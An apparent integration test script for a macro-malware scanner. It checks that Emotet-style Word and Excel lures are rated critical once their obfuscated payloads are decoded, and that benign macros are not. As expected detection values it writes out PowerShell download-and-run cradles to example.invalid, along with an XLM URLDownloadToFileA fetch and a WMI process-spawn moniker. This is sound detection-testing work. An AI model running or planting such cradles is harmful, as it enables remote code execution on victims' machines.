#!/usr/bin/env bash
# `emoguard doc` on the macro documents of the generated evidence set, as a responder would run it:
# the Emotet-shaped lures must be critical *because their payload was decoded* (the decoded
# PowerShell command and the XLM formulas are compared, and the lure sources hide their payload
# from a plain keyword search), ordinary macros must stay at or below medium yet be seen, and
# `doc --extract` / `--extract-raw` must give back exactly the sources the generator wrote.
# Usage: macro_documents.sh FIXTUREGEN EMOGUARD
set -euo pipefail

fixturegen=${1:?usage: macro_documents.sh FIXTUREGEN EMOGUARD}
emoguard=${2:?usage: macro_documents.sh FIXTUREGEN EMOGUARD}
python=/usr/bin/python3
if [[ ! -x $python ]]; then
  echo "SKIP: $python not found (the JSON checks need it)"
  exit 77
fi

tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
failed=0
fail() {
  echo "FAIL: $*"
  failed=1
}

"$fixturegen" evidence "$tmp/evidence" --sources "$tmp/sources" >/dev/null

# The documents this test is about; the sources folder must name exactly these.
documents=(
  "mail/attachments/請求書_2022.doc"
  "documents/Invoice_0192.docm"
  "documents/見積書.xls"
  "documents/月次集計.xlsm"
  "documents/template_macro.doc"
  "documents/在庫一覧.xls"
)

# 1. Verdicts over the whole evidence folder.
rc=0
"$emoguard" doc --json --no-progress --fail-on none "$tmp/evidence" >"$tmp/doc.jsonl" 2>"$tmp/doc.err" || rc=$?
if [[ $rc -ne 0 ]]; then
  fail "emoguard doc exited $rc (expected 0 with --fail-on none); stderr:"
  sed 's/^/    /' "$tmp/doc.err"
fi

# 2. Extraction, editor view and raw, of the macro documents only (one subfolder per input).
inputs=()
for d in "${documents[@]}"; do inputs+=("$tmp/evidence/$d"); done
for mode in view raw; do
  extra=()
  [[ $mode == raw ]] && extra=(--extract-raw)
  rc=0
  "$emoguard" doc --no-progress --fail-on none --extract "$tmp/extract-$mode" "${extra[@]}" "${inputs[@]}" \
    >/dev/null 2>"$tmp/extract-$mode.err" || rc=$?
  if [[ $rc -ne 0 ]]; then
    fail "emoguard doc --extract ($mode) exited $rc; stderr:"
    sed 's/^/    /' "$tmp/extract-$mode.err"
  fi
done

"$python" - "$tmp" "${documents[@]}" <<'PY' || failed=1
import base64, json, os, sys

tmp, documents = sys.argv[1], sys.argv[2:]
evidence, sources = os.path.join(tmp, "evidence"), os.path.join(tmp, "sources")
problems = []
RANK = {"info": 0, "low": 1, "medium": 2, "high": 3, "critical": 4}

def text(v):
    if isinstance(v, dict) and "bytes" in v:
        return base64.b64decode(v["bytes"]).decode("utf-8", "surrogateescape")
    return v

def read(path):
    with open(path, "rb") as f:
        return f.read().decode("utf-8")

# What the generator says each document carries: {document: {file name: text}}.
carried = {}
for root, _, files in os.walk(sources):
    for name in files:
        carried.setdefault(os.path.relpath(root, sources), {})[name] = read(os.path.join(root, name))
expected_files = {
    "mail/attachments/請求書_2022.doc": {"ThisDocument.cls", "Module1.bas"},
    "documents/Invoice_0192.docm": {"ThisDocument.cls", "Module1.bas"},
    "documents/見積書.xls": {"Macro1.xlm"},
    "documents/月次集計.xlsm": {"ThisWorkbook.cls", "Sheet1.cls", "Module1.bas"},
    "documents/template_macro.doc": {"ThisDocument.cls", "NewMacros.bas"},
    "documents/在庫一覧.xls": {"ThisWorkbook.cls", "Sheet1.cls", "Module1.bas"},
}
if set(carried) != set(documents) or set(expected_files) != set(documents):
    problems.append(f"--sources names {sorted(carried)}, expected {sorted(documents)}")
for doc, names in expected_files.items():
    if set(carried.get(doc, {})) != names:
        problems.append(f"{doc}: --sources has {sorted(carried.get(doc, {}))}, expected {sorted(names)}")

# Records of doc --json, by document (the first object part, relative to the evidence folder).
records = {d: [] for d in documents}
prefix = evidence.rstrip("/") + "/"
with open(os.path.join(tmp, "doc.jsonl"), encoding="utf-8") as f:
    for line in f:
        rec = json.loads(line)
        if rec["type"] not in ("finding", "anomaly", "error"):
            continue
        data = rec["data"]
        obj = data.get("object") or [data.get("path", "")]
        top = text(obj[0])
        rel = top[len(prefix):] if top.startswith(prefix) else top
        if rel in records:
            records[rel].append((rec["type"], data))

def findings(doc, rule=None):
    return [d for t, d in records[doc] if t == "finding" and (rule is None or d["rule"]["id"] == rule)]

def evidence_of(finding):
    return [(text(e["key"]), text(e["value"])) for e in finding["evidence"]]

def values(finding, key):
    return [v for k, v in evidence_of(finding) if k == key]

for doc in documents:
    for t, d in records[doc]:
        if t != "finding":
            problems.append(f"{doc}: unexpected {t} record (the writer and the reader disagree on the format): "
                            + json.dumps(d, ensure_ascii=False))

def one_finding(doc, rule, severity):
    got = findings(doc, rule)
    if len(got) != 1:
        problems.append(f"{doc}: expected one {rule} finding, got {len(got)} "
                        f"(all: {[(d['rule']['id'], d['severity']) for d in findings(doc)]})")
        return None
    if got[0]["severity"] != severity:
        problems.append(f"{doc}: {rule} has severity {got[0]['severity']}, expected {severity}")
    return got[0]

def check_code_page(doc, f, code_page, modules):
    if values(f, "code_page") != [code_page]:
        problems.append(f"{doc}: code_page evidence {values(f, 'code_page')}, expected [{code_page!r}]")
    if values(f, "modules") != [str(modules)]:
        problems.append(f"{doc}: modules evidence {values(f, 'modules')}, expected ['{modules}']")

# ---- positives: critical, and only because the payload was decoded.
payloads = {
    "mail/attachments/請求書_2022.doc": "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1')",
    "documents/Invoice_0192.docm": "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/b.ps1')",
}
for doc, payload in payloads.items():
    f = one_finding(doc, "document.vba_suspicious", "critical")
    if f is None:
        continue
    decoded = values(f, "decoded.PowerShell -EncodedCommand")
    if decoded != [payload]:
        problems.append(f"{doc}: decoded.PowerShell -EncodedCommand is {decoded}, expected [{payload!r}]")
    if not any("example.invalid" in v for v in decoded):
        problems.append(f"{doc}: no decoded PowerShell command names example.invalid")
    urls = values(f, "ioc.url")
    if urls != [payload.split("'")[1]]:
        problems.append(f"{doc}: ioc.url {urls}, expected the decoded URL only")
    # The URL is nowhere in the stored source: without decoding, it could not have been found.
    code = "".join(carried.get(doc, {}).values()).lower()
    if "example.invalid" in code or "http" in code:
        problems.append(f"{doc}: the generated source shows its URL in clear; the decoding check would prove nothing")

doc = "mail/attachments/請求書_2022.doc"
if (f := one_finding(doc, "document.vba_suspicious", "critical")) is not None:
    check_code_page(doc, f, "932", 2)
    moniker = "winmgmts:\\\\.\\root\\cimv2:Win32_Process"
    if moniker not in values(f, "decoded.string expression"):
        problems.append(f"{doc}: the Chr/StrReverse/Replace moniker was not decoded to {moniker!r}: "
                        f"{values(f, 'decoded.string expression')}")
    if not {"Win32_Process", "winmgmts"} <= set(values(f, "keyword.wmi")):
        problems.append(f"{doc}: keyword.wmi {values(f, 'keyword.wmi')}, expected winmgmts and Win32_Process (from the decoded moniker)")
    code = "".join(carried.get(doc, {}).values()).lower()
    for hidden in ("powershell", "winmgmts", "win32_process"):
        if hidden in code:
            problems.append(f"{doc}: the generated source shows {hidden!r} in clear; only decoding should reveal it")
doc = "documents/Invoice_0192.docm"
if (f := one_finding(doc, "document.vba_suspicious", "critical")) is not None:
    check_code_page(doc, f, "1252", 2)
    if "AutoOpen" not in values(f, "keyword.autoexec"):
        problems.append(f"{doc}: keyword.autoexec {values(f, 'keyword.autoexec')}, expected AutoOpen")
    if [text(p) for p in f["object"][1:]] != ["word/vbaProject.bin", "VBA"]:
        problems.append(f"{doc}: object {f['object']}, expected the project inside word/vbaProject.bin")

doc = "documents/見積書.xls"
if (f := one_finding(doc, "document.xlm_suspicious", "critical")) is not None:
    formulas = values(f, "formula")
    want = ["Macro1!" + line.replace("\t", " ") for line in carried.get(doc, {}).get("Macro1.xlm", "").splitlines()]
    if formulas != want:
        problems.append(f"{doc}: formula evidence {formulas}, expected {want}")
    if not any("URLDownloadToFileA" in v for v in formulas):
        problems.append(f"{doc}: no formula evidence with URLDownloadToFileA: {formulas}")
    if values(f, "auto_run") != ["Auto_Open -> Macro1!$A$1"]:
        problems.append(f"{doc}: auto_run evidence {values(f, 'auto_run')}, expected ['Auto_Open -> Macro1!$A$1']")
    if values(f, "macro_sheet") != ["Macro1 (veryHidden, 3 formulas)"]:
        problems.append(f"{doc}: macro_sheet evidence {values(f, 'macro_sheet')}, expected the very hidden Macro1")
    if values(f, "ioc.url") != ["http://example.invalid/x.ocx"]:
        problems.append(f"{doc}: ioc.url {values(f, 'ioc.url')}, expected ['http://example.invalid/x.ocx']")
    if findings(doc, "document.vba_macros") or findings(doc, "document.vba_suspicious"):
        problems.append(f"{doc}: VBA reported in a workbook that has none")

# ---- negatives: seen (their macro finding is there), never above medium.
negatives = {"documents/月次集計.xlsm": ("932", 3), "documents/template_macro.doc": ("1252", 2),
             "documents/在庫一覧.xls": ("932", 3)}
for doc, (code_page, modules) in negatives.items():
    for f in findings(doc):
        if RANK[f["severity"]] > RANK["medium"]:
            problems.append(f"{doc}: {f['rule']['id']} is {f['severity']}, expected at most medium")
    vba = findings(doc, "document.vba_macros") + findings(doc, "document.vba_suspicious")
    if len(vba) != 1:
        problems.append(f"{doc}: expected one document.vba_macros/vba_suspicious finding (the macros must be seen), got {len(vba)}")
    else:
        check_code_page(doc, vba[0], code_page, modules)
f = findings("documents/月次集計.xlsm", "document.vba_suspicious")
if f and "Workbook_Open" not in values(f[0], "keyword.autoexec"):
    problems.append(f"documents/月次集計.xlsm: keyword.autoexec {values(f[0], 'keyword.autoexec')}, expected Workbook_Open")
for doc in ("documents/template_macro.doc", "documents/在庫一覧.xls"):
    if len(findings(doc, "document.vba_macros")) != 1:
        problems.append(f"{doc}: expected document.vba_macros (info): it has macros and no auto-exec")

# ---- extraction: one subfolder per input, named after it; the module files somewhere below.
def editor_view(source):
    return "".join(l for l in source.splitlines(keepends=True) if not l.startswith("Attribute "))

for mode in ("view", "raw"):
    root = os.path.join(tmp, f"extract-{mode}")
    for doc in documents:
        base = os.path.join(root, os.path.basename(doc))
        found = {}
        for r, _, files in os.walk(base):
            for name in files:
                if name in found:
                    problems.append(f"{doc}: --extract ({mode}) wrote {name} twice")
                found[name] = os.path.join(r, name)
        want = carried.get(doc, {})
        if set(found) != set(want):
            problems.append(f"{doc}: --extract ({mode}) wrote {sorted(found)}, expected {sorted(want)}")
        for name, source in want.items():
            if name not in found:
                continue
            expected = source if mode == "raw" or name.endswith(".xlm") else editor_view(source)
            got = read(found[name])
            if got != expected:
                problems.append(f"{doc}: --extract ({mode}) {name} differs from the generated source:\n"
                                f"      got      {got[:300]!r}\n      expected {expected[:300]!r}")
            if mode == "view" and name.endswith((".bas", ".cls")) and "Attribute VB_" in got:
                problems.append(f"{doc}: {name} still has Attribute lines in the editor view")
# The Japanese sources went through Shift_JIS (with 0x5C trail bytes) and back.
if "表示" not in carried.get("mail/attachments/請求書_2022.doc", {}).get("Module1.bas", ""):
    problems.append("the .doc's Module1 no longer has the Shift_JIS text with a 0x5C trail byte this test relies on")

for p in problems:
    print("PROBLEM", p)
checked = sum(len(v) for v in carried.values())
print(f"macro documents: {len(documents)} documents, {checked} modules/sheets, {len(problems)} problems")
sys.exit(1 if problems else 0)
PY

if [[ $failed -ne 0 ]]; then
  echo "integration.macro_documents: FAILED"
  exit 1
fi
echo "integration.macro_documents: passed"
